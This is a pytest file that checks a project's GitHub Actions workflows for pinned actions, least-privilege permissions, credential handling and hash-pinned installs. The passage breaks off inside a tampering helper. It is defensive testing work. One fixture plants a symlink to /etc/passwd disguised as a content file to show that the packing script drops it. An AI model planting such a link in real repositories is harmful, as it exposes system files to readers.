"""The GitHub workflows and contributor files in .github/: linted clean and least privilege by construction.

actionlint (with shellcheck for the run: scripts) and zizmor run offline from the test extra, so
`make test` fails on anything either reports: over this repository's workflows (the callers and the
reusable `wwidw-*.yml` ones) and over the workflows `wwidw source new` writes into a source repository
of every tier, also checked against the reusable workflows they call (inputs, secrets, permissions).
"""

from __future__ import annotations

import importlib.util
import os
import re
import shutil
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest
import yaml

from wwidw_build.authoring import source_repo
from wwidw_build.authoring.issue_form import TRIGGER_LABEL
from wwidw_build.load import load_content

REPO = Path(__file__).resolve().parent.parent
WORKFLOWS = sorted((REPO / ".github" / "workflows").glob("*.y*ml"))
REUSABLE = [p for p in WORKFLOWS if p.name.startswith("wwidw-")]
BIN = Path(sys.executable).parent
PIN = re.compile(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}")
USES_LINE = re.compile(r"^\s*(?:-\s+)?uses:\s*(\S+)(.*)$")
SELF = "$/.github/workflows/"  # GitHub's self-repository form: this repository, this commit

# The only write permissions any job has (a calling job: what it grants the reusable workflow), and where.
WRITES = {
    ("review-reactie.yml", "reactie"): {"pull-requests"},
    ("wwidw-review-reactie.yml", "reactie"): {"pull-requests"},
    ("publiceren.yml", "openbaar"): {"pages", "id-token"},
    ("wwidw-publiceren-openbaar.yml", "pages"): {"pages", "id-token"},
    ("formulier.yml", "pull-request"): {"contents", "pull-requests", "issues"},
    ("wwidw-formulier.yml", "pull-request"): {"contents", "pull-requests", "issues"},
    ("onderhoud.yml", "onderhoud"): {"issues"},
    ("wwidw-onderhoud.yml", "issue"): {"issues"},
}
# Which reusable workflow each of this repository's calling jobs runs.
CALLS = {
    ("controle.yml", "review"): "wwidw-controle.yml",
    ("review-reactie.yml", "reactie"): "wwidw-review-reactie.yml",
    ("formulier.yml", "pull-request"): "wwidw-formulier.yml",
    ("publiceren.yml", "openbaar"): "wwidw-publiceren-openbaar.yml",
    ("onderhoud.yml", "onderhoud"): "wwidw-onderhoud.yml",
}
ENGINE_REF = "0123456789abcdef0123456789abcdef01234567"
TIERS = ["openbaar", "partners", "organisatie:welzijn-de-brug"]


def load(path: Path) -> dict:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    if True in data:  # YAML 1.1 reads the key `on` as a boolean
        data["on"] = data.pop(True)
    return data


def workflow(name: str) -> dict:
    return load(REPO / ".github" / "workflows" / name)


def jobs() -> list[tuple[str, str, dict, dict]]:
    """(workflow file name, job id, job, workflow) for every job."""
    return [
        (path.name, job_id, job, data)
        for path in WORKFLOWS
        for data in [load(path)]
        for job_id, job in data["jobs"].items()
    ]


def steps() -> list[tuple[str, str, dict]]:
    return [
        (name, job_id, step) for name, job_id, job, _ in jobs() for step in job.get("steps", [])
    ]


def tool(name: str) -> str:
    path = BIN / name
    assert path.exists(), (
        f"{name} is missing next to {sys.executable}: run `make install` (test extra)"
    )
    return str(path)


def run(
    args: list[str], env: dict | None = None, stdin: str | None = None
) -> subprocess.CompletedProcess:
    return subprocess.run(
        args, cwd=REPO, env=env, input=stdin, capture_output=True, text=True, timeout=300
    )


def path_with_venv() -> dict:
    return os.environ | {"PATH": f"{BIN}{os.pathsep}{os.environ.get('PATH', '')}"}


def test_there_are_workflows():
    assert {p.name for p in WORKFLOWS} >= {
        "controle.yml",
        "review-reactie.yml",
        "publiceren.yml",
        "formulier.yml",
        "wwidw-controle.yml",
        "wwidw-review-reactie.yml",
        "wwidw-formulier.yml",
        "wwidw-publiceren-openbaar.yml",
        "wwidw-publiceren-beschermd.yml",
        "onderhoud.yml",
        "wwidw-onderhoud.yml",
    }


def actionlint(files: list[Path], cwd: Path = REPO) -> subprocess.CompletedProcess:
    tool("shellcheck")  # actionlint checks every run: script with it when it is on PATH
    return subprocess.run(
        [tool("actionlint"), "-no-color", *map(str, files)],
        cwd=cwd,
        env=path_with_venv(),
        capture_output=True,
        text=True,
        timeout=300,
    )


def zizmor(folder: Path) -> subprocess.CompletedProcess:
    env = {
        k: v
        for k, v in os.environ.items()
        if k not in ("GH_TOKEN", "GITHUB_TOKEN", "ZIZMOR_GITHUB_TOKEN")
    }
    args = ["--offline", "--persona", "pedantic", "--strict-collection", "--no-progress"]
    return subprocess.run(
        [tool("zizmor"), *args, "--color", "never", "--format", "plain", "."],
        cwd=folder,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
    )


def test_actionlint_reports_nothing():
    result = actionlint(WORKFLOWS)
    assert result.returncode == 0 and not result.stdout.strip(), result.stdout + result.stderr


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_actionlint_knows_the_pinned_versions(path):
    """actionlint cannot look up a commit offline, but it knows the popular actions by major tag: with the
    tag from the version comment it checks the inputs and that no action runs on a retired Node runtime."""
    text = re.sub(r"@[0-9a-f]{40} # (v\d+)\.\d+\.\d+", r"@\1", path.read_text(encoding="utf-8"))
    result = run([tool("actionlint"), "-no-color", "-"], path_with_venv(), stdin=text)
    assert result.returncode == 0 and not result.stdout.strip(), result.stdout + result.stderr


def test_zizmor_reports_nothing_offline():
    result = zizmor(REPO)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "No findings to report" in result.stdout, result.stdout


def test_every_action_is_pinned_to_a_commit_with_its_version():
    pinned = []
    for path in WORKFLOWS:
        for line in path.read_text(encoding="utf-8").splitlines():
            match = USES_LINE.match(line)
            if match and not match.group(1).startswith(SELF):
                assert PIN.fullmatch(match.group(1)), (path.name, line)
                assert re.fullmatch(r"\s+# v\d+\.\d+\.\d+", match.group(2)), (path.name, line)
                pinned.append(match.group(1))
    assert sorted(pinned) == sorted(step["uses"] for _, _, step in steps() if "uses" in step)
    # Reusable workflows only from this repository, at the same commit (the self-repository form).
    called = {(name, job_id): job["uses"] for name, job_id, job, _ in jobs() if "uses" in job}
    assert called == {key: SELF + target for key, target in CALLS.items()}


def test_the_reusable_workflows_are_only_called():
    for path in REUSABLE:
        assert load(path)["on"] == {"workflow_call": load(path)["on"]["workflow_call"]}, path.name
        assert not [j for j in load(path)["jobs"].values() if "uses" in j], path.name
    callers = [p for p in WORKFLOWS if p not in REUSABLE]
    assert not [p.name for p in callers if "workflow_call" in load(p)["on"]]


def test_no_workflow_uses_the_actions_cache():
    for path in WORKFLOWS:
        assert load(path).get("cache-mode") == "none", path.name


def test_one_version_per_action():
    versions: dict[str, set[str]] = {}
    for _, _, step in steps():
        if "uses" in step:
            action, sha = step["uses"].split("@")
            versions.setdefault(action, set()).add(sha)
    assert {a: s for a, s in versions.items() if len(s) > 1} == {}


def test_no_pull_request_target():
    for path in WORKFLOWS:
        triggers = load(path)["on"]
        assert "pull_request_target" not in (
            triggers if isinstance(triggers, (dict, list)) else [triggers]
        ), path.name


def test_every_job_has_a_timeout():
    for name, job_id, job, _ in jobs():
        if "uses" in job:
            continue  # a calling job runs the reusable workflow's jobs, which have theirs
        assert isinstance(job.get("timeout-minutes"), int) and 0 < job["timeout-minutes"] <= 60, (
            name,
            job_id,
        )


def test_permissions_are_least_privilege():
    for path in WORKFLOWS:
        assert load(path).get("permissions") in ({}, {"contents": "read"}), path.name
    for name, job_id, job, data in jobs():
        permissions = job.get("permissions", data["permissions"])
        assert isinstance(permissions, dict), (name, job_id)  # never read-all / write-all
        assert set(permissions.values()) <= {"read", "write", "none"}, (name, job_id)
        writes = {scope for scope, level in permissions.items() if level == "write"}
        assert writes == WRITES.get((name, job_id), set()), (name, job_id)


def test_untrusted_values_reach_scripts_only_through_env():
    for name, job_id, step in steps():
        assert "${{" not in step.get("run", ""), (name, job_id, step.get("name"))
        assert "${{" not in step.get("with", {}).get("script", ""), (name, job_id, step.get("name"))


def test_every_checkout_keeps_no_credentials():
    checkouts = [
        (n, j, s) for n, j, s in steps() if s.get("uses", "").startswith("actions/checkout@")
    ]
    assert checkouts
    for name, job_id, step in checkouts:
        assert step.get("with", {}).get("persist-credentials") is False, (name, job_id)


# Every artifact a job uploads: (workflow, job, name) -> its paths. Only the public site and data go to
# an artifact in this (public) repository; a protected site only in the repository that publishes it
# (whose readers are its readers), for the one day its deploy job needs it.
UPLOADS = {
    ("wwidw-controle.yml", "review", "wwidw-inhoud"): ["${{ runner.temp }}/wwidw-inhoud/"],
    ("wwidw-controle.yml", "review", "voorbeeld-openbaar"): ["site/openbaar"],
    ("wwidw-review-reactie.yml", "review", "wwidw-reactie"): [
        "${{ runner.temp }}/wwidw-reactie/review.md",
        "${{ runner.temp }}/wwidw-reactie/pr-nummer",
    ],
    ("wwidw-formulier.yml", "schrijf", "wwidw-formulier"): ["${{ runner.temp }}/formulier/"],
    ("wwidw-publiceren-beschermd.yml", "bouw", "beschermde-site"): [
        "site/${{ steps.publiek.outputs.map }}"
    ],
    ("wwidw-onderhoud.yml", "lijst", "wwidw-onderhoud"): [
        "${{ runner.temp }}/wwidw-onderhoud/onderhoud.md"
    ],
}


def test_what_leaves_the_runner():
    uploads = {}
    for name, job_id, step in steps():
        uses, given = step.get("uses", ""), step.get("with", {})
        if uses.startswith("actions/upload-pages-artifact@"):
            assert (name, job_id, given["path"]) == (
                "wwidw-publiceren-openbaar.yml",
                "bouw",
                "site/openbaar",
            )
        if uses.startswith("actions/upload-artifact@"):
            uploads[name, job_id, given["name"]] = str(given["path"]).strip().splitlines()
            assert given["if-no-files-found"] == "error" and given["retention-days"] <= 7
    assert uploads == UPLOADS
    protected = workflow("wwidw-publiceren-beschermd.yml")["jobs"]["bouw"]["steps"][-1]
    assert protected["with"]["retention-days"] == 1
    pages = [
        (n, j, job)
        for n, j, job, _ in jobs()
        if any(s.get("uses", "").startswith("actions/deploy-pages@") for s in job.get("steps", []))
    ]
    assert [(n, j) for n, j, _ in pages] == [("wwidw-publiceren-openbaar.yml", "pages")]
    assert pages[0][2]["environment"]["name"] == "github-pages"


# Item 12: the engine is installed from hash-pinned runtime requirements only, never `make install`
# (52 range-pinned packages with the test tools), and never in a job that holds write access or the
# deploy key.

ENGINE_DIR = "${{ inputs.engine-ref != '' && '.wwidw-engine' || '.' }}"
INSTALLS = {  # every job that installs the engine (the step "Install the engine")
    ("wwidw-controle.yml", "review"),
    ("wwidw-review-reactie.yml", "review"),
    ("wwidw-formulier.yml", "schrijf"),
    ("wwidw-publiceren-openbaar.yml", "bouw"),
    ("wwidw-publiceren-beschermd.yml", "bouw"),
    ("wwidw-onderhoud.yml", "lijst"),
}


def install_script(name: str, job_id: str) -> str:
    job = workflow(name)["jobs"][job_id]
    return next(s for s in job["steps"] if s.get("name") == "Install the engine")["run"]


def test_the_engine_is_installed_alike_everywhere_from_hash_pinned_requirements():
    """The runtime dependencies with --require-hashes and --no-deps from the engine's requirements/,
    then the engine itself from its checkout with no index: this repository's own checkout, or in a
    source repository the engine repository at the pinned commit."""
    found = {
        (name, job_id) for name, job_id, step in steps() if step.get("name") == "Install the engine"
    }
    assert found == INSTALLS
    scripts = {key: install_script(*key) for key in INSTALLS}
    assert len(set(scripts.values())) == 1
    script = scripts["wwidw-controle.yml", "review"]
    joined = re.sub(r"\\\n\s*", "", script)  # continued lines as one
    pip_lines = [" ".join(line.split()) for line in joined.splitlines() if "pip " in line]
    assert pip_lines == [
        '.venv/bin/pip install --quiet --require-hashes --no-deps -r "$ENGINE_DIR/requirements/'
        'build.txt" -r "$ENGINE_DIR/requirements/build-system.txt"',
        '.venv/bin/pip install --quiet --no-deps --no-build-isolation --no-index "./$ENGINE_DIR"',
        ".venv/bin/pip check",
    ]
    for name, job_id in INSTALLS:
        job = workflow(name)["jobs"][job_id]
        install = next(s for s in job["steps"] if s.get("name") == "Install the engine")
        assert install["env"]["ENGINE_DIR"] == ENGINE_DIR, name
        pin, engine = (
            next(s for s in job["steps"] if s.get("name", "").startswith(prefix))
            for prefix in ("Check the engine pin", "Check out the engine at its pinned commit")
        )
        assert job["steps"].index(pin) < job["steps"].index(engine) < job["steps"].index(install)
        assert "^[0-9a-f]{40}$" in pin["run"] and "inputs.engine-ref != ''" in pin["if"]
        assert engine["if"] == pin["if"] and engine["with"]["path"] == ".wwidw-engine"
        assert engine["with"]["ref"] == "${{ inputs.engine-ref }}"
        assert engine["with"]["repository"] == "${{ inputs.engine-repository }}"


def test_no_job_that_can_write_or_deploy_installs_anything():
    """Write permissions, an environment (the deploy key) or an issue's write token: such a job runs no
    pip, npm, make or engine, checks out no engine and sets up no Python. And no job installs the
    test extras or range-pinned packages: only controle's Tests job runs make (`make test`)."""
    # A command that installs or runs Python, npm or make, or anything from a venv (the engine).
    installing = re.compile(
        r"^\s*(pip3?|pipx|npm|npx|make|python3?|uv|poetry)\s|\.venv/|/bin/pip", re.M
    )
    for name, job_id, job, data in jobs():
        if "uses" in job:
            continue
        permissions = job.get("permissions", data["permissions"])
        holds = any(level == "write" for level in permissions.values()) or "environment" in job
        scripts = [s.get("run", "") for s in job["steps"]]
        for script in scripts:
            assert "make install" not in script and "make python" not in script, (name, job_id)
            assert ".[test]" not in script and "git+https://" not in script, (name, job_id)
            for line in script.splitlines():
                if re.search(r"\bpip install\b", line):
                    assert "--no-deps" in line, (name, job_id, line)
        if holds:
            assert not [s for s in scripts if installing.search(s)], (name, job_id)
            assert not [
                s
                for s in job["steps"]
                if s.get("uses", "").startswith("actions/setup-python@")
                or s.get("with", {}).get("path") == ".wwidw-engine"
            ], (name, job_id)
    makes = {(n, j) for n, j, s in steps() if re.search(r"\bmake\b", s.get("run", ""))}
    assert makes == {("controle.yml", "tests")}
    assert "make test" in workflow("controle.yml")["jobs"]["tests"]["steps"][-1]["run"]


def test_the_deploy_key_and_the_write_tokens_are_in_jobs_of_their_own():
    """Each job that can write or deploy gets what it writes from an earlier job as an artifact."""
    key = [(n, j) for n, j, job, _ in jobs() if "secrets.BESCHERMD_SSH_KEY" in yaml.safe_dump(job)]
    assert key == [("wwidw-publiceren-beschermd.yml", "publiceer")]
    writers = {
        ("wwidw-publiceren-beschermd.yml", "publiceer"): ("bouw", "beschermde-site"),
        ("wwidw-formulier.yml", "pull-request"): ("schrijf", "wwidw-formulier"),
        ("wwidw-review-reactie.yml", "reactie"): ("review", "wwidw-reactie"),
        ("wwidw-onderhoud.yml", "issue"): ("lijst", "wwidw-onderhoud"),
    }
    for (name, job_id), (builder, artifact) in writers.items():
        job = workflow(name)["jobs"][job_id]
        assert job["needs"] == builder
        download = next(
            s for s in job["steps"] if s.get("uses", "").startswith("actions/download-artifact@")
        )
        assert download["with"]["name"] == artifact and "run-id" not in download["with"]
        assert "secrets." not in yaml.safe_dump(workflow(name)["jobs"][builder]).replace(
            "secrets.sources-token", ""
        ).replace("secrets.BRONNEN_TOKEN", "")


def names(requirements: Path) -> dict[str, dict]:
    """A pip-compile output: {normalised name: {"version", "hashes", "via"}}."""
    entries: dict[str, dict] = {}
    current = None
    for line in requirements.read_text(encoding="utf-8").splitlines():
        if match := re.fullmatch(r"([A-Za-z0-9._-]+)==(\S+) \\", line):
            current = entries.setdefault(
                re.sub(r"[-_.]+", "-", match.group(1)).lower(),
                {"version": match.group(2), "hashes": [], "via": []},
            )
        elif match := re.fullmatch(r"    --hash=sha256:([0-9a-f]{64})( \\)?", line):
            current["hashes"].append(match.group(1))
        elif match := re.fullmatch(r"    # via (.+)|    #   (.+)", line):
            current["via"].append((match.group(1) or match.group(2)).strip())
        else:
            assert line == "" or line.startswith("#") or line == "    # via", line
    return entries


def closure_of(entries: dict[str, dict], roots: set[str]) -> set[str]:
    """The entries reachable from ``roots`` by the annotations (each names what needs it)."""
    needed_by = {name: set(entry["via"]) for name, entry in entries.items()}
    reached, changed = set(roots), True
    while changed:
        more = {n for n, via in needed_by.items() if via & reached} - reached
        reached |= more
        changed = bool(more)
    return reached


def test_the_runtime_requirements_are_exactly_pyprojects_and_every_one_is_hash_pinned():
    from packaging.requirements import Requirement

    pyproject = tomllib.loads((REPO / "pyproject.toml").read_text(encoding="utf-8"))
    build = names(REPO / "requirements" / "build.txt")
    backend = names(REPO / "requirements" / "build-system.txt")
    for entries in (build, backend):
        assert entries and all(e["hashes"] and e["via"] for e in entries.values())
    for file, entries, wanted, root in (
        (
            "build.txt",
            build,
            pyproject["project"]["dependencies"],
            "wwidw (pyproject.toml)",
        ),
        (
            "build-system.txt",
            backend,
            pyproject["build-system"]["requires"],
            "wwidw (pyproject.toml::build-system.requires)",
        ),
    ):
        requirements = {
            re.sub(r"[-_.]+", "-", Requirement(r).name).lower(): Requirement(r) for r in wanted
        }
        direct = {n for n, e in entries.items() if root in e["via"]}
        assert direct == set(requirements), file  # exactly pyproject's, none of the test extras
        for name in direct:
            assert requirements[name].specifier.contains(entries[name]["version"]), (file, name)
        # Nothing else: every other entry is needed by one of them (or by build.txt's pins).
        assert closure_of(entries, {root, "-c requirements/build.txt"}) >= set(entries), file
    for name in set(build) & set(backend):
        assert build[name] == backend[name] | {"via": build[name]["via"]}, name
    # The test tools never reach a job that publishes, writes or comments.
    extras = {
        re.sub(r"[-_.]+", "-", Requirement(r).name).lower()
        for r in pyproject["project"]["optional-dependencies"]["test"]
    }
    assert not extras & (set(build) - {"setuptools"})


def test_the_requirements_can_be_regenerated():
    makefile = (REPO / "Makefile").read_text(encoding="utf-8")
    target = makefile[makefile.index("\nrequirements: ") :].split("\n\n")[0]
    for part in (
        "--generate-hashes",
        "--output-file requirements/build.txt pyproject.toml",
        "--only-build-deps",
        "--output-file requirements/build-system.txt",
        "--constraint requirements/build.txt",
    ):
        assert part in target, part
    assert "requirements" in makefile.split("\n.PHONY:")[1].split("\n\n")[0]


def test_private_sources_are_read_through_a_credential_helper_only():
    helpers = [
        (n, j) for n, j, s in steps() if "credential.https://github.com.helper" in s.get("run", "")
    ]
    assert (
        helpers
        == [  # checks, comment (its review job), form (its read-only job), maintenance list
            # (its read-only job), protected build
            ("wwidw-controle.yml", "review"),
            ("wwidw-formulier.yml", "schrijf"),
            ("wwidw-onderhoud.yml", "lijst"),
            ("wwidw-publiceren-beschermd.yml", "bouw"),
            ("wwidw-review-reactie.yml", "review"),
        ]
    )
    for name, job_id, step in steps():
        script = step.get("run", "")
        if "credential.https://github.com.helper" in script:
            assert "$SOURCES_TOKEN" in script and "password=$SOURCES_TOKEN" in script
            assert 'echo "$SOURCES_TOKEN"' not in script and "> " not in script  # never stored
        if "SOURCES_TOKEN" in step.get("env", {}):
            assert step["env"]["SOURCES_TOKEN"].startswith("${{ secrets."), (name, job_id)


def test_the_public_site_is_published_with_no_credentials_at_all():
    for name in ("publiceren.yml", "wwidw-publiceren-openbaar.yml"):
        text = (REPO / ".github" / "workflows" / name).read_text(encoding="utf-8")
        assert "secrets." not in text and "secrets:" not in text, name
    job = workflow("publiceren.yml")["jobs"]["openbaar"]
    assert job["with"]["sources"] == "content"  # the public source alone
    build = next(
        s
        for s in workflow("wwidw-publiceren-openbaar.yml")["jobs"]["bouw"]["steps"]
        if "wwidw build" in s.get("run", "")
    )
    assert "--audience openbaar" in build["run"]


def test_this_repository_publishes_no_protected_site():
    """The protected sites are published by the repositories whose readers may read them."""
    text = "\n".join(
        p.read_text(encoding="utf-8")
        for p in WORKFLOWS
        if p.name != "wwidw-publiceren-beschermd.yml"
    )
    assert "rsync" not in text and "BESCHERMD_SSH_KEY" not in text
    assert not [j for n, j, job, _ in jobs() if job.get("uses", "").endswith("beschermd.yml")]


def test_the_pull_request_workflow_validates_builds_reviews_and_previews():
    controle = workflow("controle.yml")
    assert "pull_request" in controle["on"]
    caller = controle["jobs"]["review"]
    assert caller["if"] == "${{ github.event_name == 'pull_request' }}"
    assert "secrets" not in caller and caller["permissions"] == {"contents": "read"}
    assert caller["with"] == {
        "sources": "bronnen.yml",
        "audience": "alle",
        "review-source": "openbaar",
        "content-folder": "content",
    }
    assert "make test" in controle["jobs"]["tests"]["steps"][-1]["run"]
    job = workflow("wwidw-controle.yml")["jobs"]["review"]
    script = "\n".join(step.get("run", "") for step in job["steps"])
    for command in (
        '.venv/bin/wwidw validate "$FLAG" "$SOURCES" --format github',
        '.venv/bin/wwidw build "$FLAG" "$SOURCES" --audience "$AUDIENCE" --out site',
        'args=("$FLAG" "$SOURCES" --base "origin/$BASE_REF" --out "$RUNNER_TEMP/review.md")',
        'args+=(--source "$REVIEW_SOURCE")',
        '.venv/bin/wwidw review "${args[@]}"',
        '>> "$GITHUB_STEP_SUMMARY"',
    ):
        assert command in script, command
    checkout = next(s for s in job["steps"] if s.get("uses", "").startswith("actions/checkout@"))
    assert checkout["with"]["fetch-depth"] == 0
    review = next(s for s in job["steps"] if "wwidw review" in s.get("run", ""))
    assert review["env"]["BASE_REF"] == "${{ github.base_ref }}"
    uploads = {
        s["with"]["name"]: s
        for s in job["steps"]
        if s.get("uses", "").startswith("actions/upload-artifact@")
    }
    assert set(uploads) == {"wwidw-inhoud", "voorbeeld-openbaar"}
    assert "hashFiles('site/openbaar/index.html')" in uploads["voorbeeld-openbaar"]["if"]
    secrets = workflow("wwidw-controle.yml")["on"]["workflow_call"]["secrets"]
    assert secrets == {"sources-token": secrets["sources-token"]}
    assert secrets["sources-token"]["required"] is False


# Item 11: the comment is made by trusted code (the default branch's engine) from the pull request's
# content, never from what the pull request's code wrote.


def test_the_check_hands_over_only_the_pull_requests_content():
    job = workflow("wwidw-controle.yml")["jobs"]["review"]
    names_ = [s.get("name", s.get("uses", "")) for s in job["steps"]]
    pack = next(s for s in job["steps"] if " pack " in s.get("run", ""))
    upload = next(s for s in job["steps"] if s.get("with", {}).get("name") == "wwidw-inhoud")
    assert (
        '"$ENGINE_DIR/.github/scripts/pr_content.py" pack --base "origin/$BASE_REF"' in pack["run"]
    )
    assert '--out "$RUNNER_TEMP/wwidw-inhoud"' in pack["run"]
    assert pack["env"]["PR_NUMBER"] == "${{ github.event.pull_request.number }}"
    assert pack["env"]["CONTENT_FOLDER"] == "${{ inputs.content-folder }}"
    # Packed and uploaded before the engine is installed or run: nothing the engine writes goes in.
    assert names_.index(upload["name"]) < names_.index("Install the engine")
    review = next(s for s in job["steps"] if "wwidw review" in s.get("run", ""))
    assert "rapport" not in review["run"] and "review.md" not in yaml.safe_dump(upload)


def test_the_comment_is_made_by_the_default_branchs_engine_from_the_content_only():
    reactie = workflow("review-reactie.yml")
    assert reactie["on"]["workflow_run"]["workflows"] == [workflow("controle.yml")["name"]]
    assert reactie["jobs"]["reactie"]["with"] == {
        "sources": "bronnen.yml",
        "review-source": "openbaar",
        "content-folder": "content",
    }
    reusable = workflow("wwidw-review-reactie.yml")
    text = (REPO / ".github/workflows/wwidw-review-reactie.yml").read_text(encoding="utf-8")
    for untrusted in (
        "head_branch",
        "head_repository",
        "pull_requests",
        "github.head_ref",
        "refs/pull",
    ):
        assert untrusted not in text, untrusted
    review = reusable["jobs"]["review"]
    assert "github.event.workflow_run.event == 'pull_request'" in review["if"]
    checkouts = [s for s in review["steps"] if s.get("uses", "").startswith("actions/checkout@")]
    assert [s["with"] for s in checkouts] == [
        {"persist-credentials": False, "ref": "${{ github.event.repository.default_branch }}"},
        {
            "persist-credentials": False,
            "repository": "${{ inputs.engine-repository }}",
            "ref": "${{ inputs.engine-ref }}",
            "path": ".wwidw-engine",
        },
    ]
    order = [s.get("name", s.get("uses")) for s in review["steps"]]
    download = next(s for s in review["steps"] if s.get("id") == "download")
    assert download["with"]["name"] == "wwidw-inhoud"
    assert download["with"]["run-id"] == "${{ github.event.workflow_run.id }}"
    apply = next(s for s in review["steps"] if s.get("id") == "apply")
    assert '"$ENGINE_DIR/.github/scripts/pr_content.py" apply' in apply["run"]
    made = next(s for s in review["steps"] if "wwidw review" in s.get("run", ""))
    assert '--base HEAD --out "$RUNNER_TEMP/wwidw-reactie/review.md"' in made["run"]
    # Installed (from the default branch) before the content is unpacked, reviewed after.
    assert order.index("Install the engine") < order.index(download["name"])
    assert order.index(download["name"]) < order.index(apply["name"]) < order.index(made["name"])
    assert review["permissions"] == {"actions": "read", "contents": "read"}
    post = reusable["jobs"]["reactie"]
    assert post["permissions"] == {"pull-requests": "write"} and post["needs"] == "review"
    assert not [s for s in post["steps"] if "run" in s]
    script = next(s for s in post["steps"] if "script" in s.get("with", {}))["with"]["script"]
    assert "<!-- wwidw-review -->" in script and "/^[1-9][0-9]{0,9}$/" in script
    assert "pr.head.sha !== process.env.HEAD_SHA" in script and "updateComment" in script


# The content handed from the check to the comment, with real git and the real script and engine.

SCRIPT = REPO / ".github" / "scripts" / "pr_content.py"


def git(cwd: Path, *args: str) -> str:
    identity = ["-c", "user.name=Test", "-c", "user.email=test@example.org"]
    return subprocess.run(
        ["git", "-C", str(cwd), *identity, *args], check=True, capture_output=True, text=True
    ).stdout


def pr_content(*args: str | Path, cwd: Path | None = None) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, str(SCRIPT), *map(str, args)],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=120,
    )


@pytest.fixture(scope="module")
def pull_request(tmp_path_factory) -> Path:
    """A repository with this repository's public source in content/ and some engine code on main,
    and a pull request branch `voorstel` that changes, adds, renames and deletes descriptions, and also
    changes the engine's code, a workflow and adds a symlink where a description would be."""
    origin = tmp_path_factory.mktemp("pr") / "origin"
    shutil.copytree(REPO / "content", origin / "content")
    (origin / "wwidw_build").mkdir()
    (origin / "wwidw_build" / "review.py").write_text("REPORT = 'echt'\n", encoding="utf-8")
    git(origin.parent, "init", "-q", "-b", "main", str(origin))
    git(origin, "add", "-A")
    git(origin, "commit", "-qm", "main")
    git(origin, "switch", "-qc", "voorstel")
    praktijken = origin / "content" / "praktijken"
    with (praktijken / "taalcafe-bibliotheek-oost.md").open("a", encoding="utf-8") as text:
        text.write("\nEen zin erbij.\n")
    shutil.copy(praktijken / "wijkconcierge-de-horst.md", praktijken / "wijkconcierge-de-linde.md")
    git(origin, "rm", "-q", "content/praktijken/geveltuinen-bloemenbuurt.md")
    git(origin, "mv", "content/archetypen/klushuizen.md", "content/archetypen/klushuizen-2.md")
    (origin / "wwidw_build" / "review.py").write_text("REPORT = 'wat ik wil'\n", encoding="utf-8")
    (origin / ".github" / "workflows").mkdir(parents=True)
    (origin / ".github" / "workflows" / "x.yml").write_text("on: push\n", encoding="utf-8")
    (praktijken / "link.md").symlink_to("/etc/passwd")
    git(origin, "add", "-A")
    git(origin, "commit", "-qm", "voorstel")
    return origin


@pytest.fixture(scope="module")
def packed(pull_request, tmp_path_factory) -> Path:
    """What the check uploads: `pack` in a clone of the pull request, as controle runs it."""
    folder = tmp_path_factory.mktemp("check")
    git(folder, "clone", "-q", "-b", "voorstel", str(pull_request), "pr")
    artifact = folder / "wwidw-inhoud"
    result = pr_content(
        "pack",
        "--base",
        "origin/main",
        "--content-folder",
        "content",
        "--pr-number",
        "7",
        "--out",
        artifact,
        cwd=folder / "pr" / "content",  # any folder in the repository
    )
    assert result.returncode == 0, result.stderr
    return artifact


def default_branch(pull_request: Path, tmp_path: Path) -> Path:
    git(tmp_path, "clone", "-q", "-b", "main", str(pull_request), "basis")
    return tmp_path / "basis"


def tree(folder: Path) -> dict[str, str]:
    return {
        p.relative_to(folder).as_posix(): (
            "link" if p.is_symlink() else "dir" if p.is_dir() else "file"
        )
        for p in sorted(folder.rglob("*"))
    }


def test_the_check_packs_only_changed_content(packed):
    assert tree(packed) == {
        "bestanden": "dir",
        "bestanden/content": "dir",
        "bestanden/content/archetypen": "dir",
        "bestanden/content/archetypen/klushuizen-2.md": "file",
        "bestanden/content/praktijken": "dir",
        "bestanden/content/praktijken/taalcafe-bibliotheek-oost.md": "file",
        "bestanden/content/praktijken/wijkconcierge-de-linde.md": "file",
        "pr-nummer": "file",
        "verwijderd": "file",
    }  # no engine code, no workflow, no symlink
    assert (packed / "verwijderd").read_text(encoding="utf-8").splitlines() == [
        "content/archetypen/klushuizen.md",
        "content/praktijken/geveltuinen-bloemenbuurt.md",
    ]
    assert (packed / "pr-nummer").read_text(encoding="utf-8") == "7\n"


def test_the_default_branchs_engine_reviews_the_pull_requests_content(
    packed, pull_request, tmp_path
):
    """The comment workflow's steps for real: apply onto the default branch, then `wwidw review
    --base HEAD` of the engine under test. The report is the pull request's changes, renames too."""
    basis = default_branch(pull_request, tmp_path)
    report = tmp_path / "wwidw-reactie"
    result = pr_content(
        "apply",
        "--artifact",
        packed,
        "--content-folder",
        "content",
        "--checkout",
        basis,
        "--report",
        report,
    )
    assert result.returncode == 0, result.stderr
    assert (report / "pr-nummer").read_text(encoding="utf-8") == "7\n"
    assert (basis / "wwidw_build" / "review.py").read_text(encoding="utf-8") == "REPORT = 'echt'\n"
    assert not (basis / ".github").exists() and not (basis / "content/praktijken/link.md").exists()
    made = subprocess.run(
        [
            tool("wwidw"),
            "review",
            "--content",
            "content",
            "--base",
            "HEAD",
            "--out",
            report / "review.md",
        ],
        cwd=basis,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert made.returncode == 0, made.stderr
    text = (report / "review.md").read_text(encoding="utf-8")
    assert "1 toegevoegd, 1 gewijzigd, 1 hernoemd, 1 verwijderd" in text
    for row in (
        "| ➕ toegevoegd | praktijk | `wijkconcierge-de-linde` |",
        "| ✏️ gewijzigd | praktijk | `taalcafe-bibliotheek-oost` |",
        "| 🔀 hernoemd | archetype | `klushuizen-2` |",
        "| 🗑️ verwijderd | praktijk | `geveltuinen-bloemenbuurt` |",
    ):
        assert row in text, row


def tampered(packed: Path, tmp_path: Path, change) -> Path:
    artifact = tmp_path / "wwidw-inhoud"
    shutil.copytree(packed, artifact, symlinks=True)
    change(artifact)
    return artifact


def put(relative: str, data: bytes = b"---\nid: x\n---\n"):
    def change(artifact: Path) -> None:
        path = artifact / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)

    return change


def link(relative: str, target: str):
    def change(artifact: Path) -> None:
